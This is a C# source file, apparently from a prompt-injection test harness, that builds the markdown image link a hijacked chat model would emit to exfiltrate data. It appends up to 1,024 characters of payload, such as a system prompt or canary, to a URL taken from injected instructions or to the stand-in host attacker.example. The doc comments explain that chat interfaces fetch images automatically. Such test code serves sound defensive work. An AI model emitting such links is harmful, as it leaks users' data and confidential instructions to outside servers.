using System.Globalization;
using System.Text.RegularExpressions;

namespace GoldenPath.Fast;

/// <summary>
/// The markdown image a hijacked model writes to smuggle data out: chat UIs fetch images without a click, so the
/// query string reaches the attacker's server as soon as the answer is rendered.
/// </summary>
internal static partial class ExfiltrationLink
{
    /// <summary>Where the data goes when no instruction names a URL.</summary>
    public const string DefaultCollector = "https://attacker.example/collect";

    /// <summary>How much text, before URL encoding, the link carries: enough for a system prompt and a canary.</summary>
    public const int MaxPayloadCharacters = 1_024;

    public static string Build(IEnumerable<string> instructions, string payload)
    {
        var target = FirstUrl(instructions) ?? DefaultCollector;
        var separator = target.Contains('?', StringComparison.Ordinal) ? '&' : '?';
        return string.Create(CultureInfo.InvariantCulture, $"![x]({target}{separator}d={Uri.EscapeDataString(Truncate(payload))})");
    }

    private static string? FirstUrl(IEnumerable<string> instructions)
    {
        foreach (var text in instructions)
        {
            foreach (Match match in UrlPattern().Matches(text))
            {
                var url = match.Value.TrimEnd('.', ',', ';', ':', '!', '?', '\'', '"');
                var fragment = url.IndexOf('#', StringComparison.Ordinal);
                url = fragment >= 0 ? url[..fragment] : url;
                if (Uri.TryCreate(url, UriKind.Absolute, out _))
                {
                    return url;
                }
            }
        }

        return null;
    }

    private static string Truncate(string payload)
    {
        if (payload.Length <= MaxPayloadCharacters)
        {
            return payload;
        }

        // Never cut a surrogate pair in half: EscapeDataString rejects a lone surrogate.
        var length = char.IsHighSurrogate(payload[MaxPayloadCharacters - 1]) ? MaxPayloadCharacters - 1 : MaxPayloadCharacters;
        return payload[..length];
    }

    [GeneratedRegex(@"https?://[^\s()\[\]<>""'`]+", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex UrlPattern();
}
